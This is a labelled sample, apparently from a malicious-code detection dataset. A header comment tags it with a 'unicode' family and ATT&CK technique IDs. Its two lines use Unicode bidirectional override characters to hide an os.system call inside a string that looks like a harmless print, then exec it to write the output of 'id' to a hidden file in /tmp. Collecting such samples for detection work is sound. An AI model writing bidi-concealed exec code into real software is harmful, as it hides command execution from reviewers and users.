# label: malicious family=unicode techniques=T1027,T1033,T1036.002,T1059.004,T1059.006,T1564.001 lines=2-3
cmd = "print('ok')⁧;__import__('os').system('id>/tmp/.b')⁩"
exec(cmd)
